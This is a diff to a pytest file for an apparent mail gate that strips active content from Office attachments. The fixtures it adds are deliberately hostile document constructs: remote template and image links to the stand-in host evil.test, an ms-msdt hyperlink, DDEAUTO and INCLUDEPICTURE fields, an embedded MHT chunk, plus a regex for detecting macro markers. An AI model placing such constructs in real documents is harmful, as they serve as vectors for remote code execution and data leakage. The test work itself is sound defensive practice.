@@ -13,7 +13,7 @@ import pptx
 import pytest
 from lxml import etree
 
-from sekisho.gates.mail.disarmed import disarmed, renamed
+from sekisho.gates.mail.disarmed.office import disarmed, renamed
 from sekisho.gates.mail.opened import File, opened
 from sekisho.rulebook import Rulebook
 from tests.gates.mail import VBA, WORD_MACRO, docm, docx, mail, relation, rulebook
@@ -22,6 +22,10 @@ TEMPLATE = relation("attachedTemplate", "https://evil.test/t.dotm", outside=True
 OLE = (
     '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
     'r:id="rId9"/></w:object></w:r></w:p>'
+)
+BLIP = (
+    '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
+    'r:link="rId9"/></w:drawing></w:r></w:p>'
 )
 SUSPECT = re.compile(
     rb"vbaProject|macroEnabled|macrosheet|attachedTemplate|oleObject|activeX|evil\.test"
@@ -32,6 +36,12 @@ ACTIVE = [
     docx(TEMPLATE, encoding="utf-16"),
     docx(relation("oleObject", "embeddings/oleObject1.bin"), inside=OLE,
          parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
+    docx(relation("image", "https://evil.test/a.png", outside=True), inside=BLIP),
+    docx(relation("hyperlink", "ms-msdt:/id evil.test", outside=True)),
+    docx(relation("aFChunk", "afchunk1.mht"), parts={"word/afchunk1.mht": b"evil.test"}),
+    docx(inside="<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO evil.test"
+         "</w:instrText></w:r></w:p>"),
+    docx(inside='<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;https://evil.test/&quot;"/></w:p>'),
     docx(relation("vbaProject", "x.dat"), parts={"word/vbaProject.bin": b"\0"},
          main=WORD_MACRO, more=VBA),
 ]  # fmt: skip
@@ -100,7 +110,6 @@ def test_a_workbook_opens_without_its_macros_and_outer_links(rules: Rulebook) ->
 @pytest.mark.parametrize(
     "content",
     [
-        docx(inside="<w:p><w:r><w:instrText>DDEAUTO c</w:instrText></w:r></w:p>"),
         docx(TEMPLATE)[:-30],
         b"PK\x03\x04",
         b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
@@ -113,8 +122,8 @@ def test_what_cannot_be_vouched_for_is_none(content: bytes, rules: Rulebook) -> 
 
 
 def test_names() -> None:
-    assert [renamed(one) for one in ("a.docm", "B.XLSM", "a.docx", "a.xlsb")] == [
-        "a.docx", "B.xlsx", "a.docx", "a.xlsb",
+    assert [renamed(one) for one in ("a.docm", "B.XLSM", "a.docx", "a.xlsb", "a.potm")] == [
+        "a.docx", "B.xlsx", "a.docx", "a.xlsb", "a.potx",
     ]  # fmt: skip
 
 
@@ -124,7 +133,10 @@ def words(content: bytes) -> list[str]:
     with zipfile.ZipFile(io.BytesIO(content)) as package:
         for name in package.namelist():
             if name.endswith(".xml") and not name.startswith(("[", "META-INF", "docProps")):
-                found += "".join(etree.fromstring(package.read(name)).itertext()).split()
+                root = etree.fromstring(package.read(name))
+                # what a field asks for is no text that people read
+                etree.strip_elements(root, "{*}instrText", with_tail=False)
+                found += "".join(root.itertext()).split()
     return found
 
 
